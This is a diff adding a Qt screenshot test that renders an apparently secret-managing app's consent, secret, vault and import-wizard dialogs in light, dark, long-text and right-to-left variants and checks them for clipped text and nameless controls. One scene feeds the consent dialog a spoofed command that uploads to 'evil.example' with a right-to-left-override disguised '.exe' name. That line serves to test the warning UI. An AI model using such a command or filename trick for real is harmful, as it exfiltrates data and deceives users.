@@ -1,0 +1,328 @@
+// Draws every dialog and page with scripted data: light, dark, with texts 40 % longer, right to left.
+// The pictures go to $CLAVIGER_SCREENSHOTS; no text may be cut in any of them.
+#include "tests/support/fake_clock.h"
+#include "tests/support/scripted_control.h"
+#include "tests/ui/dialogs/requests.h"
+#include "tests/ui/wizard/plans.h"
+#include "ui/dialogs/access_dialog.h"
+#include "ui/dialogs/confirm_dialog.h"
+#include "ui/dialogs/reveal_dialog.h"
+#include "ui/dialogs/secret_dialog.h"
+#include "ui/dialogs/test_dialog.h"
+#include "ui/dialogs/undo_dialog.h"
+#include "ui/dialogs/undo_model.h"
+#include "ui/dialogs/vault_dialog.h"
+#include "ui/text/translations.h"
+#include "ui/wizard/import_wizard.h"
+
+#include <QtCore/QDir>
+#include <QtCore/QTranslator>
+#include <QtGui/QAccessible>
+#include <QtTest/QTest>
+#include <QtWidgets/QAbstractButton>
+#include <QtWidgets/QApplication>
+#include <QtWidgets/QLineEdit>
+#include <QtWidgets/QRadioButton>
+#include <QtWidgets/QStyleFactory>
+#include <QtWidgets/QToolButton>
+
+using namespace Qt::StringLiterals;
+using namespace claviger;
+using namespace claviger::ui;
+
+namespace {
+
+/// Makes every text 40 % longer, as German often is.
+class LongTexts : public QTranslator
+{
+public:
+    [[nodiscard]] bool isEmpty() const override { return false; }
+    [[nodiscard]] QString translate(
+        const char *context, const char *source, const char *, int) const override
+    {
+        if (QByteArrayView(context).startsWith("Q"))
+            return {};
+        const QString text = QString::fromUtf8(source);
+        const QString filler = u"ümläng wörtlang "_s.repeated(20);
+        return text.isEmpty() ? text : text + u' ' + filler.left(std::max<qsizetype>(text.size() * 2 / 5, 2)).trimmed();
+    }
+};
+
+QPalette darkPalette()
+{
+    QPalette palette(QColor(45, 45, 48), QColor(45, 45, 48));
+    palette.setColor(QPalette::Base, QColor(30, 30, 32));
+    palette.setColor(QPalette::AlternateBase, QColor(55, 55, 60));
+    for (const auto role : {QPalette::WindowText, QPalette::Text, QPalette::ButtonText, QPalette::ToolTipText})
+        palette.setColor(role, QColor(230, 230, 230));
+    for (const auto role : {QPalette::WindowText, QPalette::Text, QPalette::ButtonText})
+        palette.setColor(QPalette::Disabled, role, QColor(130, 130, 130));
+    palette.setColor(QPalette::PlaceholderText, QColor(150, 150, 150));
+    palette.setColor(QPalette::Highlight, QColor(42, 130, 218));
+    palette.setColor(QPalette::HighlightedText, Qt::white);
+    return palette;
+}
+
+/// What is cut in this window, as text for the failure.
+QStringList cutTexts(QWidget *window)
+{
+    QStringList cut;
+    const auto labels = window->findChildren<QLabel *>();
+    for (const QLabel *label : labels) {
+        if (!label->isVisible() || label->text().isEmpty())
+            continue;
+        const int needed = label->wordWrap() ? label->heightForWidth(label->width()) : label->sizeHint().height();
+        const bool isNarrow = !label->wordWrap() && label->width() < label->sizeHint().width();
+        if (label->height() < needed || isNarrow) {
+            cut.append(u"%1x%2, needs height %3: %4"_s.arg(label->width()).arg(label->height()).arg(needed)
+                           .arg(label->text().left(60)));
+        }
+        const QRect inWindow(label->mapTo(window, QPoint()), label->size());
+        const bool isScrolled = label->window() != label->parentWidget()
+            && label->parentWidget()->inherits("QWidget") && window->findChild<BodyArea *>()
+            && window->findChild<BodyArea *>()->isAncestorOf(label);
+        if (!isScrolled && !window->rect().contains(inWindow))
+            cut.append(u"outside the window: "_s + label->text().left(60));
+    }
+    const auto buttons = window->findChildren<QAbstractButton *>();
+    for (const QAbstractButton *button : buttons) {
+        if (button->isVisible() && button->width() < button->minimumSizeHint().width())
+            cut.append(u"button: "_s + button->text());
+        const QRect inWindow(button->mapTo(window, QPoint()), button->size());
+        if (button->isVisible() && !button->text().isEmpty() && !window->rect().contains(inWindow)
+            && !button->inherits("QToolButton"))
+            cut.append(u"button outside: "_s + button->text());
+    }
+    return cut;
+}
+
+QStringList namelessControls(QWidget *window)
+{
+    QStringList nameless;
+    const auto widgets = window->findChildren<QWidget *>();
+    for (QWidget *widget : widgets) {
+        if (!widget->isVisible() || widget->focusPolicy() == Qt::NoFocus || widget->objectName().startsWith("qt_"_L1))
+            continue;
+        QAccessibleInterface *accessible = QAccessible::queryAccessibleInterface(widget);
+        if (accessible && accessible->text(QAccessible::Name).isEmpty())
+            nameless.append(QString::fromUtf8(widget->metaObject()->className()) + u' ' + widget->objectName());
+    }
+    return nameless;
+}
+
+} // namespace
+
+class GalleryTest : public QObject
+{
+    Q_OBJECT
+
+private:
+    test::ScriptedControl m_control;
+    test::FakeClock m_clock;
+    std::unique_ptr<ControlLink> m_link;
+    ClipboardKeeper m_clipboard;
+    LongTexts m_longTexts;
+    QPalette m_light;
+    const CredentialRef m_credential {u"github"_s, u"GitHub"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s, u"GitHub"_s,
+        u"GitHub settings (https://github.com/settings/tokens)"_s};
+
+    using Maker = QDialog *(GalleryTest::*)();
+
+    QDialog *access(const broker::ConsentRequest &request)
+    {
+        return new AccessDialog(
+            wordAccessQuestion(request, std::chrono::seconds(120)), std::chrono::milliseconds(0));
+    }
+    QDialog *accessFirst() { return access(test::launchRequest()); }
+    QDialog *accessChanged()
+    {
+        auto request = test::launchRequest();
+        request.command = {u"npx"_s, u"-y"_s, u"@modelcontextprotocol/server-github"_s, u"--upload"_s,
+            u"https://evil.example/\u202Egnp.exe"_s};
+        request.changes = {{policy::Change::Kind::Command, u"npx -y @modelcontextprotocol/server-github"_s,
+                               request.command.join(u' ')},
+            {policy::Change::Kind::Application, u"/usr/share/cursor/cursor"_s, u"/usr/share/cursor/cursor"_s}};
+        return access(request);
+    }
+    QDialog *accessHuge()
+    {
+        auto request = test::launchRequest();
+        request.application.name = QString(300, u'W');
+        request.serverName = u"A server with a very long name that goes on and on and on and on"_s;
+        for (int i = 0; i < 200; ++i)
+            request.command.append(u"--argument-number-%1=%2"_s.arg(i).arg(QString(i, u'x')));
+        for (int i = 0; i < 30; ++i)
+            request.values.append(u"A_RATHER_LONG_NAME_OF_A_SECRET_NUMBER_%1"_s.arg(i));
+        return access(request);
+    }
+    QDialog *accessDetails()
+    {
+        QDialog *dialog = accessFirst();
+        dialog->findChild<QToolButton *>(u"detailsToggle"_s)->setChecked(true);
+        return dialog;
+    }
+    QDialog *putBack()
+    {
+        auto request = test::launchRequest();
+        request.kind = broker::ConsentRequest::Kind::PutSecretsBack;
+        request.command.clear();
+        return access(request);
+    }
+    QDialog *secret()
+    {
+        auto *dialog = new SecretDialog(m_credential, serviceNamed(u"GitHub"_s));
+        dialog->findChild<QLineEdit *>(u"value"_s)->setText(u"sk-wrong"_s);
+        return dialog;
+    }
+    QDialog *reveal()
+    {
+        auto *dialog = new RevealDialog(m_credential, m_clipboard);
+        dialog->showSecret(Secret::copyOf("example-value-for-the-picture"));
+        return dialog;
+    }
+    QDialog *confirmDelete()
+    {
+        return new ConfirmDialog({u"Delete this secret?"_s, u"GitHub can't start without it."_s,
+            u"You can type it in again at any time."_s, u"&Delete"_s, true});
+    }
+    QDialog *vault()
+    {
+        auto *dialog = new VaultChoiceDialog(vault::StoreState::Missing);
+        dialog->findChild<QRadioButton *>(u"sealedFile"_s)->setChecked(true);
+        dialog->findChild<QLineEdit *>(u"passphrase"_s)->setText(u"correct horse battery"_s);
+        return dialog;
+    }
+    QDialog *unlock()
+    {
+        auto *dialog = new UnlockDialog(true);
+        dialog->showError({ErrorCode::PassphraseWrong, {}, {}});
+        return dialog;
+    }
+    QDialog *tested()
+    {
+        auto *dialog = new TestDialog(m_credential);
+        broker::ControlReply reply;
+        reply.body = test::wizardJson("{'checks':[{'check':'stored','ok':true,'skipped':false,'detail':''},"
+                                      "{'check':'form','ok':true,'skipped':false,'detail':''},"
+                                      "{'check':'start','ok':true,'skipped':false,'detail':''},"
+                                      "{'check':'initialize','ok':false,'skipped':false,'detail':'401 Bad credentials'},"
+                                      "{'check':'tools','ok':false,'skipped':true,'detail':''}]}");
+        dialog->showReply(reply);
+        return dialog;
+    }
+    QDialog *undo() { return new UndoDialog(std::make_unique<UndoModel>(*m_link, UndoScope {})); }
+    ImportWizard *wizardAt(int steps)
+    {
+        auto *wizard = new ImportWizard(*m_link);
+        if (!QTest::qWaitFor([wizard] { return wizard->model().hasPlan(); }))
+            qFatal("the scan did not end");
+        if (steps == 0)
+            return wizard;
+        wizard->model().chooseClient(1, false);
+        for (int i = 0; i < steps; ++i) {
+            if (!QTest::qWaitFor([wizard] { return wizard->model().canGoNext(); }))
+                qFatal("the wizard does not go on");
+            wizard->model().next();
+        }
+        const bool isDone = QTest::qWaitFor([wizard, steps] {
+            return static_cast<int>(wizard->model().page()) == steps
+                && wizard->model().work() == WizardModel::Work::None;
+        });
+        if (!isDone)
+            qFatal("the page did not come");
+        return wizard;
+    }
+    QDialog *wizardClients() { return wizardAt(0); }
+    QDialog *wizardServers() { return wizardAt(1); }
+    QDialog *wizardChanges() { return wizardAt(2); }
+    QDialog *wizardDone() { return wizardAt(3); }
+
+    void dress(const QString &variant)
+    {
+        QApplication::removeTranslator(&m_longTexts);
+        QApplication::setLayoutDirection(Qt::LeftToRight);
+        QApplication::setPalette(variant == u"dark"_s ? darkPalette() : m_light);
+        if (variant == u"long"_s || variant == u"rtl"_s)
+            QApplication::installTranslator(&m_longTexts);
+        if (variant == u"rtl"_s)
+            QApplication::setLayoutDirection(Qt::RightToLeft);
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        QApplication::setStyle(QStyleFactory::create(u"Fusion"_s));
+        text::installTranslations(*qApp, QLocale(QLocale::English));
+        m_light = QApplication::palette();
+        m_control.answer(u"import.scan"_s, test::samplePlan());
+        m_control.answer(u"import.preview"_s, test::samplePreview());
+        m_control.answer(u"import.apply"_s,
+            test::wizardJson("{'files':[{'path':'/home/ada/.cursor/mcp.json','client':'cursor','ok':true,"
+                             "'error':null,'servers':['github','postgres'],'secretsMoved':3,'notes':['in-git']},"
+                             "{'path':'/home/ada/work/.mcp.json','client':'claude-code','ok':false,"
+                             "'error':{'code':'file-changed','subject':'/home/ada/work/.mcp.json'},"
+                             "'servers':[],'secretsMoved':0,'notes':[]}]}"));
+        m_control.answer(u"import.watch"_s, test::wizardJson("{'clients':[{'client':'cursor','launchedAt':5}]}"));
+        m_control.answer(u"clients.list"_s, test::wizardJson("{'clients':[]}"));
+        m_control.answer(u"undo.list"_s,
+            test::wizardJson("{'undo':[{'id':'1','client':'cursor','path':'/home/ada/.cursor/mcp.json',"
+                             "'server':'github','key':'github','at':1,'secrets':['GITHUB_PERSONAL_ACCESS_TOKEN'],"
+                             "'state':'in-place','why':{'code':'file-changed','subject':'/home/ada/.cursor/mcp.json'}},"
+                             "{'id':'2','client':'cursor','path':'/home/ada/.cursor/mcp.json','server':'x','key':'x',"
+                             "'at':1,'secrets':[],'state':'gone','why':{'code':'entry-changed','subject':'x'}}]}"));
+        QJsonObject preview = test::samplePreview();
+        preview.insert(u"secrets"_s,
+            QJsonArray {QJsonObject {{u"server"_s, u"github"_s}, {u"name"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s}}});
+        m_control.answer(u"undo.preview"_s, preview);
+        m_link = std::make_unique<ControlLink>(m_control, m_clock);
+    }
+    void cleanupTestCase() { m_link.reset(); }
+
+    void draw_data()
+    {
+        QTest::addColumn<QString>("variant");
+        QTest::addColumn<QString>("name");
+        QTest::addColumn<int>("scene");
+        int scene = 0;
+        for (const char *name : {"access-first", "access-changed", "access-huge", "access-details", "put-back", "secret",
+                 "reveal", "delete", "vault", "unlock", "test", "undo", "wizard-clients", "wizard-servers",
+                 "wizard-changes", "wizard-done"}) {
+            for (const char *variant : {"light", "dark", "long", "rtl"}) {
+                QTest::addRow("%s-%s", name, variant)
+                    << QString::fromLatin1(variant) << QString::fromLatin1(name) << scene;
+            }
+            ++scene;
+        }
+    }
+    void draw()
+    {
+        QFETCH(QString, variant);
+        QFETCH(QString, name);
+        QFETCH(int, scene);
+        static constexpr Maker kScenes[] = {&GalleryTest::accessFirst, &GalleryTest::accessChanged,
+            &GalleryTest::accessHuge, &GalleryTest::accessDetails, &GalleryTest::putBack, &GalleryTest::secret,
+            &GalleryTest::reveal, &GalleryTest::confirmDelete, &GalleryTest::vault, &GalleryTest::unlock,
+            &GalleryTest::tested, &GalleryTest::undo, &GalleryTest::wizardClients, &GalleryTest::wizardServers,
+            &GalleryTest::wizardChanges, &GalleryTest::wizardDone};
+        dress(variant);
+        std::unique_ptr<QDialog> dialog((this->*kScenes[scene])());
+        dialog->setAttribute(Qt::WA_DeleteOnClose, false);
+        dialog->show();
+        QVERIFY(QTest::qWaitForWindowExposed(dialog.get()));
+        if (name == u"undo"_s)
+            QTRY_VERIFY(dialog->findChild<QWidget *>(u"diff"_s)->isVisible());
+        for (int i = 0; i < 5; ++i)
+            QCoreApplication::processEvents();
+        const QString folder = qEnvironmentVariable("CLAVIGER_SCREENSHOTS", u"screenshots"_s);
+        QVERIFY(QDir().mkpath(folder));
+        QVERIFY(dialog->grab().save(u"%1/%2-%3.png"_s.arg(folder, name, variant)));
+        const QStringList cut = cutTexts(dialog.get());
+        QVERIFY2(cut.isEmpty(), qPrintable(cut.join(u'\n')));
+        const QStringList nameless = namelessControls(dialog.get());
+        QVERIFY2(nameless.isEmpty(), qPrintable(nameless.join(u'\n')));
+        QVERIFY(dialog->height() <= dialog->screen()->availableGeometry().height());
+    }
+};
+
+QTEST_MAIN(GalleryTest)
+#include "gallery_test.moc"
